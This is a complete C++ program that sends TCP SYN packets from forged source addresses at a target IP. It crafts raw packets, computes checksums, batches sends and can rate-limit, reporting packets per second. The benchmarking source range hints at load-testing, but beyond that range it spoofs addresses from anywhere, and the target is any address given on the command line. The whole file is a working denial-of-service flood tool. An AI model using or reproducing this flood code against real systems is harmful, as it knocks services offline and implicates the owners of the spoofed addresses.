// Sends SYNs from many sources to one port, as fast as it can: flood TO COUNT SOURCES [RATE [EACH]]. Needs root.
// RATE is packets per second; without it, no limit. EACH: so many in a row are from the same source. Up to 393,216
// sources are of 198.18.0.0/15 and 198.20.0.0/14; more are forged ones from everywhere. Prints how many packets per
// second it sent.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <thread>
#include <vector>

namespace {

constexpr uint16_t port = 8083;
constexpr uint32_t first_source = 0xc6120000;
constexpr uint32_t near_sources = 0x60000;

uint32_t source_of(uint64_t number, uint64_t sources) {
  const auto scattered = static_cast<uint32_t>(number % sources * 2654435761ULL);
  return sources > near_sources ? 0x0b000000 + scattered % 0x70000000 : first_source + scattered % near_sources;
}

struct Syn {
  iphdr ip;
  tcphdr tcp;
};

uint32_t sum(const void* data, size_t bytes) {
  uint32_t total = 0;
  const auto* at = static_cast<const uint8_t*>(data);
  for (size_t i = 0; i + 1 < bytes; i += 2) total += static_cast<uint32_t>(at[i] << 8 | at[i + 1]);
  return total;
}

uint16_t folded(uint32_t total) {
  while (total >> 16 != 0) total = (total & 0xffff) + (total >> 16);
  return htons(static_cast<uint16_t>(~total));
}

Syn syn_from(uint32_t source, in_addr to) {
  Syn packet{};
  packet.ip.version = 4;
  packet.ip.ihl = 5;
  packet.ip.tot_len = htons(sizeof packet);
  packet.ip.ttl = 55;
  packet.ip.protocol = IPPROTO_TCP;
  packet.ip.saddr = htonl(source);
  packet.ip.daddr = to.s_addr;
  packet.tcp.source = htons(40000);
  packet.tcp.dest = htons(port);
  packet.tcp.doff = 5;
  packet.tcp.syn = 1;
  packet.tcp.window = htons(1024);
  packet.tcp.check = folded(sum(&packet.ip.saddr, 8) + IPPROTO_TCP + sizeof(tcphdr) + sum(&packet.tcp, sizeof(tcphdr)));
  return packet;
}

}  // namespace

int main(int argc, char** argv) {
  in_addr to{};
  if (argc < 4 || inet_pton(AF_INET, argv[1], &to) != 1)
    return std::fputs("flood TO COUNT SOURCES [RATE]\n", stderr), 2;
  const auto count = std::strtoull(argv[2], nullptr, 10);
  const auto sources = std::strtoull(argv[3], nullptr, 10);
  const double rate = argc > 4 ? std::strtod(argv[4], nullptr) : 0;
  const auto each = argc > 5 ? std::strtoull(argv[5], nullptr, 10) : 1;
  const int raw = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) return std::perror("raw socket"), 1;
  const int buffer = 8 << 20;
  ::setsockopt(raw, SOL_SOCKET, SO_SNDBUFFORCE, &buffer, sizeof buffer);
  sockaddr_in target{};
  target.sin_family = AF_INET;
  target.sin_addr = to;

  constexpr size_t group = 64;
  std::array<Syn, group> packets{};
  std::array<iovec, group> pieces{};
  std::array<mmsghdr, group> messages{};
  for (size_t i = 0; i < group; ++i) {
    pieces[i] = {&packets[i], sizeof(Syn)};
    messages[i].msg_hdr = {&target, sizeof target, &pieces[i], 1, nullptr, 0, 0};
  }
  const auto start = std::chrono::steady_clock::now();
  const auto seconds = [&] { return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count(); };
  for (unsigned long long sent = 0; sent < count;) {
    const size_t now = std::min<unsigned long long>(group, count - sent);
    for (size_t i = 0; i < now; ++i) packets[i] = syn_from(source_of((sent + i) / each, sources), to);
    const int done = ::sendmmsg(raw, messages.data(), static_cast<unsigned>(now), 0);
    if (done < 0) return std::perror("sendmmsg"), 1;
    sent += static_cast<unsigned>(done);
    if (rate > 0)
      while (static_cast<double>(sent) / rate > seconds()) std::this_thread::sleep_for(std::chrono::microseconds(200));
  }
  std::printf("%.0f\n", static_cast<double>(count) / seconds());
}
